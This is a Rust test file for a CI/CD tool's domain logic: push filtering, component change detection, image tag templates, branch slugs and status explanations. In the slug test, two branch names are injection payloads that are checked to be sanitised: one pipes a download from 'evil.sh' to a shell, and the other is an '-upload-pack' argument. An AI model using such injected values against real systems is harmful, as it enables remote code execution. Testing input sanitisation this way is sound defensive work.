//! The answers people read, and the rules they come from: filter, tags, explain.

mod common;

use common::{
    at, candidate, good, new_run, new_run_in_parts, new_stage, policy, rule, run_fact, stage_fact,
};
use expect_test::{Expect, expect};
use towline_domain::definition::{Build, Component, Glob, Source};
use towline_domain::explain::{self, Standing};
use towline_domain::filter::{self, ChangedFiles, Verdict};
use towline_domain::names::{CommitSha, GitRef};
use towline_domain::reason::NotCompared;
use towline_domain::run::{self, Run};
use towline_domain::stage;
use towline_domain::tags::{self, Values};

fn globs(texts: &str) -> Vec<Glob> {
    let texts = texts.split_whitespace();
    texts
        .map(|text| Glob::new(text).expect("a pattern"))
        .collect()
}

fn words(verdict: Verdict) -> String {
    match verdict {
        Verdict::Build(because) => format!("yes: {because}"),
        Verdict::Skip(unchanged) => format!("no: {unchanged}"),
    }
}

fn build(tags: &[&str], env: &[(&str, &str)]) -> Build {
    let owned = |text: &&str| (*text).to_owned();
    Build {
        env: env
            .iter()
            .map(|(name, value)| (owned(name), owned(value)))
            .collect(),
        tags: tags.iter().map(owned).collect(),
        ..Build::default()
    }
}

fn component(name: &str, paths: &str, watch: &str, ignore: &str) -> Component {
    Component {
        name: good(name),
        repository: good("acme/backend"),
        paths: globs(paths),
        watch: globs(watch),
        ignore: globs(ignore),
        build: build(&["{sha}-{build}"], &[]),
    }
}

fn changed(files: &str) -> ChangedFiles {
    ChangedFiles::Known(files.split_whitespace().map(Into::into).collect())
}

#[test]
fn only_pushes_that_the_source_names_count() {
    let check = |branches: &str, tags: &str, pushed: &str, message: &str, expect: Expect| {
        let source = Source {
            github: None,
            branches: globs(branches),
            tags: globs(tags),
            skip_message: vec!["[skip ci]".into()],
        };
        let verdict = filter::admits(&source, &good::<GitRef>(pushed), "main", message);
        expect.assert_eq(&verdict.map_or_else(|why| format!("no: {why}"), |()| "yes".into()));
    };
    check("", "", "refs/heads/main", "", expect!["yes"]);
    check(
        "",
        "",
        "refs/heads/side",
        "",
        expect!["no: side is not the default branch, and source.branches is not set"],
    );
    check(
        "main release/**",
        "",
        "refs/heads/release/1/2",
        "",
        expect!["yes"],
    );
    check(
        "main release/*",
        "",
        "refs/heads/release/1/2",
        "",
        expect!["no: branch release/1/2 matches no pattern in source.branches"],
    );
    check(
        "main",
        "",
        "refs/heads/mainly",
        "",
        expect!["no: branch mainly matches no pattern in source.branches"],
    );
    check(
        "main",
        "",
        "refs/tags/main",
        "",
        expect!["no: source.tags is not set, so tag main starts no run"],
    );
    check("main", "v*", "refs/tags/v1.2", "", expect!["yes"]);
    check(
        "main",
        "v*",
        "refs/tags/1.2",
        "",
        expect!["no: tag 1.2 matches no pattern in source.tags"],
    );
    check(
        "",
        "",
        "refs/heads/main",
        "Fix\n\n[skip ci]",
        expect![[r#"no: the commit message contains "[skip ci]" (source.skip_message)"#]],
    );
}

#[test]
fn a_component_is_built_for_a_reason_and_not_built_for_one() {
    let base: CommitSha = good(&"b".repeat(40));
    let check = |paths: &str, watch: &str, ignore: &str, files: &str, expect: Expect| {
        let component = component("backend", paths, watch, ignore);
        let verdict = filter::judge(&component, Some(&base), &changed(files));
        expect.assert_eq(&words(verdict));
    };
    check(
        "backend/**",
        "",
        "",
        "backend/a.rs web/b",
        expect!["yes: backend/a.rs changed since bbbbbbb"],
    );
    check(
        "backend/**",
        "",
        "",
        "web/b",
        expect!["no: no file under backend/** (1 file changed since bbbbbbb)"],
    );
    check(
        "backend/**",
        "libs/**",
        "",
        "libs/money.rs",
        expect!["yes: libs/money.rs, which it watches, changed since bbbbbbb"],
    );
    check(
        "backend/**",
        "libs/**",
        "",
        "web/a web/b",
        expect!["no: no file under backend/**, libs/** (2 files changed since bbbbbbb)"],
    );
    check(
        "backend/**",
        "",
        "**/*.md",
        "backend/README.md",
        expect!["no: no file under backend/** that is not ignored (1 file changed since bbbbbbb)"],
    );
    check(
        "",
        "",
        "**/*.md",
        "README.md",
        expect!["no: no file that is not ignored (1 file changed since bbbbbbb)"],
    );
    check(
        "",
        "",
        "**/*.md",
        "README.md Makefile",
        expect!["yes: Makefile changed since bbbbbbb"],
    );
    let any = component("backend", "backend/**", "", "");
    let never = filter::judge(&any, None, &changed(""));
    expect!["yes: no successful build on this ref yet"].assert_eq(&words(never));
    let unknown = ChangedFiles::Unknown(NotCompared::TooManyChanged(9));
    expect!["yes: built to be safe: more than 9 files changed"].assert_eq(&words(filter::judge(
        &any,
        Some(&base),
        &unknown,
    )));
}

#[test]
fn files_of_no_component_are_reported() {
    let components = [
        component("backend", "backend/**", "libs/**", "**/*.md"),
        component("web", "web/**", "", ""),
    ];
    let files = changed("backend/a libs/b web/c docs/d.md Makefile ci/run");
    assert_eq!(
        filter::outside_every_component(&components, &files),
        ["Makefile", "ci/run"]
    );
    let unknown = ChangedFiles::Unknown(NotCompared::TooManyChanged(9));
    assert!(filter::outside_every_component(&components, &unknown).is_empty());
    let whole = [component("backend", "", "", "")];
    assert!(filter::outside_every_component(&whole, &files).is_empty());
}

#[test]
fn tags_are_known_before_the_build_begins() {
    let check = |templates: &[&str], env: &[(&str, &str)], expect: Expect| {
        let run = new_run();
        let attempt = common::attempt_id(1);
        let values = Values {
            commit: &run.key.commit,
            git_ref: &good("refs/heads/release/1"),
            build_number: 142,
            attempt: &attempt,
        };
        let text = match tags::of_attempt(&build(templates, env), values) {
            Ok(tags) => {
                let all: Vec<&str> = tags
                    .all
                    .iter()
                    .map(towline_domain::names::Tag::as_str)
                    .collect();
                assert_eq!(tags.all[0], tags.unique);
                all.join(" ").replace(attempt.as_str(), "UUID")
            }
            Err(error) => error.to_string().replace(attempt.as_str(), "UUID"),
        };
        expect.assert_eq(&text);
    };
    check(
        &["{sha}", "{sha7}-{build}"],
        &[],
        expect!["aaaaaaa-142 aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"],
    );
    check(
        &["{env.APP_VERSION}"],
        &[("APP_VERSION", "{sha7}.{build_uuid}")],
        expect!["aaaaaaa.UUID"],
    );
    check(
        &["{branch_slug}-{build}", "{branch_slug}-{build}", "latest"],
        &[],
        expect!["release-1--b8b18f053f-142 latest"],
    );
    check(
        &["{sha}", "latest"],
        &[],
        expect![[
            r#"no tag differs from build to build; add {build} or {build_uuid} to one, as in "{sha}-{build}""#
        ]],
    );
    check(
        &["{shaa}-{build}"],
        &[],
        expect![[
            r#""{shaa}-{build}" has {shaa}, which is not a placeholder; there are {sha}, {sha7}, {build}, {build_uuid}, {branch_slug} and, in tags and parameters, {env.NAME}"#
        ]],
    );
    check(
        &["{env.MISSING}-{build}"],
        &[],
        expect![[
            r#""{env.MISSING}-{build}" has {env.MISSING}, which is not a placeholder; there are {sha}, {sha7}, {build}, {build_uuid}, {branch_slug} and, in tags and parameters, {env.NAME}"#
        ]],
    );
    check(
        &["{build"],
        &[],
        expect![[r#""{build" has a brace that does not close"#]],
    );
    check(
        &["build}-{build}"],
        &[],
        expect![[
            r#""build}-{build}" gives "build}-142", which is not an image tag: 1 to 128 of A-Z, a-z, 0-9, '_', '.' and '-', not starting with '.' or '-'"#
        ]],
    );
    check(
        &["-{build}"],
        &[],
        expect![[
            r#""-{build}" gives "-142", which is not an image tag: 1 to 128 of A-Z, a-z, 0-9, '_', '.' and '-', not starting with '.' or '-'"#
        ]],
    );
    check(
        &["{sha}{sha}{sha}{sha}{build}"],
        &[],
        expect![[
            r#""{sha}{sha}{sha}{sha}{build}" gives "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa142", which is not an image tag: 1 to 128 of A-Z, a-z, 0-9, '_', '.' and '-', not starting with '.' or '-'"#
        ]],
    );
}

#[test]
fn a11_a_slug_is_the_branch_where_that_is_a_word_and_carries_a_hash_elsewhere() {
    let check = |git_ref: &str, expect: Expect| expect.assert_eq(&tags::slug(&good(git_ref)));
    check("refs/heads/main", expect!["main"]);
    check("refs/tags/main", expect!["main--14d3c2661e"]);
    check("refs/heads/feature/a", expect!["feature-a--1901a3acaa"]);
    check("refs/heads/feature-a", expect!["feature-a"]);
    check(
        "refs/heads/-upload-pack=touch",
        expect!["upload-pack-touch--9b6609f53c"],
    );
    check("refs/heads/é", expect!["ref--559a834b47"]);
    check("refs/heads/559a834b47", expect!["559a834b47"]);
    check(
        "refs/heads/a$(curl${IFS}evil.sh|sh)",
        expect!["a--curl--IFS-evil.sh-sh--ea5510a795"],
    );
    check(
        "refs/heads/main--a1c3f7e5b2",
        expect!["main--a1c3f7e5b2--e7a1dcdd2a"],
    );
}

#[test]
fn an_attempt_says_what_it_is_at() {
    let check_of = |run: Run, facts: &str, expect: Expect| {
        let run = facts.lines().fold(run, |run, line| {
            run::advance(run, &run_fact(line), at(0)).run
        });
        let component = run.components.values().next().expect("one component");
        expect.assert_eq(&explain::attempt(component.latest()));
    };
    let check = |facts: &str, expect: Expect| check_of(new_run(), facts, expect);
    let check_parts = |facts: &str, expect: Expect| check_of(new_run_in_parts(), facts, expect);
    check_parts(
        "1/arm64: delayed busy",
        expect![[
            "build#1 for linux/amd64 is waiting to start; build#1 for linux/arm64 is waiting to start: busy"
        ]],
    );
    check_parts(
        "1/amd64: report 1 SUCCEEDED\n1/amd64: image 1\n1/arm64: report 2 IN_PROGRESS",
        expect!["build#1 for linux/amd64 succeeded; build#1 for linux/arm64 is running"],
    );
    let built = "1/amd64: report 1 SUCCEEDED\n1/amd64: image 1\n1/arm64: report 2 SUCCEEDED\n1/arm64: image 2";
    check_parts(
        built,
        expect!["build#1 succeeded on every platform; its image index has not been pushed yet"],
    );
    check_parts(&format!("{built}\nindex 9"), expect!["build#1 succeeded"]);
    check("", expect!["build#1 is waiting to start"]);
    check(
        "delayed throttled",
        expect!["build#1 is waiting to start: throttled"],
    );
    check("bound 1", expect!["build#1 is queued"]);
    check("report 1 IN_PROGRESS", expect!["build#1 is running"]);
    check(
        "report 1 SUCCEEDED",
        expect!["build#1 succeeded; its image has not been read from the registry yet"],
    );
    check("report 1 SUCCEEDED\nimage 1", expect!["build#1 succeeded"]);
    check(
        "report 1 FAILED",
        expect!["build#1 ended FAILED: BUILD: exit status 1"],
    );
    check("cancel lee", expect!["build#1 was cancelled by @lee"]);
    check(
        "superseded",
        expect!["build#1 was superseded by a newer push of the same ref (run 00112233aabbccdd)"],
    );
    check(
        "image 1 said 2",
        expect![
            "build#1 is held: the push event said sha256:0000000000000000000000000000000000000000000000000000000000000002 for tag aaaaaaa-1, the registry holds sha256:0000000000000000000000000000000000000000000000000000000000000001"
        ],
    );
}

#[test]
fn an_image_is_told_where_it_stands_by_the_rule_that_holds_it_back() {
    let check = |rules: &str, facts: &str, order: u64, expect: Expect| {
        let rule = rule(rules);
        let (mut stage, mut number) = (new_stage(), 1);
        for line in facts.lines() {
            let fact = stage_fact(line, at(0));
            let decision = stage::advance(stage, &fact, policy(&rule, &[], number), at(0));
            number += u64::from(decision.took_number);
            stage = decision.stage;
        }
        expect.assert_eq(
            &match explain::standing(&stage, &rule, &candidate(order), at(60)) {
                Standing::Live => "live".into(),
                Standing::Waiting(why) => format!("waiting: promotion #{} {why}", why.promotion),
                Standing::Outside(why) => format!("outside: {why}"),
            },
        );
    };
    let live = "offer 2\nlease 1 for a\ntagged 1 by a";
    check("auto", live, 2, expect!["live"]);
    check(
        "auto",
        live,
        1,
        expect!["outside: 2222222 is newer and live"],
    );
    check(
        "auto",
        live,
        3,
        expect!["outside: no promotion is open for it"],
    );
    check(
        "manual",
        "",
        1,
        expect!["outside: waits for `towline promote`: this stage promotes nothing automatically"],
    );
    check(
        "auto",
        "offer 1",
        1,
        expect!["waiting: promotion #1 is in progress"],
    );
    check(
        "queue",
        "offer 1\noffer 2",
        2,
        expect!["waiting: promotion #2 waits for promotion #1"],
    );
    check(
        "expires 3600; approval 2",
        "offer 1\napprove 1 by lee",
        1,
        expect!["waiting: promotion #1 waits for approval 1/2, expires in 59m"],
    );
    check(
        "approval 2",
        "offer 1\nhold by lee freeze",
        1,
        expect!["waiting: promotion #1 waits: prod is held by @lee: freeze; 0/2 approvals"],
    );
    check(
        "auto",
        "hold by lee freeze\noffer 1",
        1,
        expect!["outside: held by @lee: freeze"],
    );
}

#[test]
fn a_span_is_told_in_its_two_largest_units() {
    let check = |seconds: u64, text: &str| assert_eq!(explain::span(at(0), at(seconds)), text);
    check(0, "0s");
    check(45, "45s");
    check(60, "1m");
    check(3_725, "1h 2m");
    check(86_400 * 3 + 3_600 * 5 + 59, "3d 5h");
    check(86_400 + 30, "1d 30s");
    assert_eq!(explain::span(at(90), at(0)), "1m 30s");
}
